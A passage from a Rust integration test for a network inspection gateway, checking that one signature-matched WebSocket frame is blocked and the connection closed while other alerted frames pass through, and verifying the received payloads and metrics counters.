        .await
        .unwrap();
    assert_eq!(after, None, "the connection is closed at the blocked frame");
    let blocked = gw.wait_line("events.jsonl", |v| v["alert"]["signature_id"] == 9500002);
    assert_eq!(blocked["alert"]["action"], "blocked", "{blocked}");
    assert_eq!(
        blocked["evidence"]["location"], "websocket.payload",
        "{blocked}"
    );
    for sid in [9500001, 9500003] {
        let e = gw.wait_line("events.jsonl", |v| v["alert"]["signature_id"] == sid);
        assert_eq!(e["alert"]["action"], "allowed", "{e}");
    }
    let deadline = std::time::Instant::now() + limit;
    while received.lock().unwrap().len() < 3 && std::time::Instant::now() < deadline {
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    let seen = received.lock().unwrap().clone();
    assert_eq!(
        seen,
        [
            b"hello-alert from the ward".to_vec(),
            b"MALWARE_DOWN".to_vec(),
            b"close 1008".to_vec()
        ]
    );
    gw.assert_metrics(&[
        "sekisho_upgrades_total{result=\"websocket\"} 1",
        "sekisho_websocket_frames_total{direction=\"request\"} 3",
        "sekisho_websocket_frames_total{direction=\"response\"} 3",
    ])
    .await;
}
